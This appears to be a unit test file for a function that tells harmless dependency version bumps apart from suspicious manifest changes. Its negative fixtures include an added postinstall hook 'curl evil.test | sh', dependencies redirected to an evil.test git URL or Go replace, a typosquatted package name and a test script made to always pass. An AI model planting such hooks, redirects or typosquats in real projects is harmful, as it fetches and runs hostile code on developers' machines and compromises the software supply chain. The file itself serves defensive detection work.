import { isDependencyUpdate } from '../../lib/core/dependency-files.js';
import { parseDiff } from '../../lib/core/diff.js';

const changed = (path: string, rows: readonly string[]) => {
  const [removed, added] = ['-', '+'].map((sign) => rows.filter((row) => row.startsWith(sign)).length);
  const [file] = parseDiff(
    `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n@@ -1,${removed} +1,${added} @@\n${rows.join('\n')}\n`,
  );
  if (file?.content.kind !== 'text') throw new Error('That is no diff.');
  return file;
};

const rows: readonly (readonly [path: string, is: boolean, ...rows: string[]])[] = [
  ['package.json', true, '-    "left-pad": "^1.2.3",', '+    "left-pad": "^2.0.0-beta.1",'],
  ['package.json', true, '-    "a": "1.0.0"', '-    "b": "1.x"', '+    "a": "~1.0.1"', '+    "b": "3"'],
  ['go.mod', true, '-\tgolang.org/x/net v0.1.0', '+\tgolang.org/x/net v0.2.0'],
  ['requirements.txt', true, '-flask==2.0.1', '+flask==3.0'],
  ['pom.xml', true, '-  <version>1.2.3</version>', '+  <version>1.2.4</version>'],
  ['package-lock.json', true, '-  "resolved": "a"', '+  "resolved": "b"', '+  "more": 1'],
  ['package.json', false, '+    "postinstall": "curl evil.test | sh"'],
  ['package.json', false, '-    "test": "jest"', '+    "test": "jest || true"'],
  ['package.json', false, '-    "left-pad": "1.2.3"', '+    "left-pda": "1.2.4"'],
  ['package.json', false, '-    "a": "1.2.3"', '+    "a": "git+https://evil.test/a.git"'],
  ['package.json', false, '-    "a": "1.2.3"'],
  ['go.mod', false, '+replace golang.org/x/net => evil.test/net v0.2.0'],
  ['Gemfile', false, "-gem 'rails', '7.0'", "+gem 'rails', '7.1', path: 'vendor'"],
  ['src/index.ts', false, '-const version = "1.0.0"', '+const version = "1.0.1"'],
];

test.each(rows.map(([path, is, ...changes]) => ({ path, is, changes })))('$path $changes: $is', (one) => {
  expect(isDependencyUpdate(changed(one.path, one.changes))).toBe(one.is);
});

test('a manifest that becomes a link, gets another name or is no text is read', () => {
  const file = changed('package.json', ['-  "a": "1.0.0"', '+  "a": "1.0.1"']);
  expect(isDependencyUpdate(file)).toBe(true);
  expect(isDependencyUpdate({ ...file, symlink: true })).toBe(false);
  expect(isDependencyUpdate({ ...file, oldPath: 'src/index.ts' })).toBe(false);
  expect(isDependencyUpdate({ ...file, content: { kind: 'binary' } })).toBe(false);
});
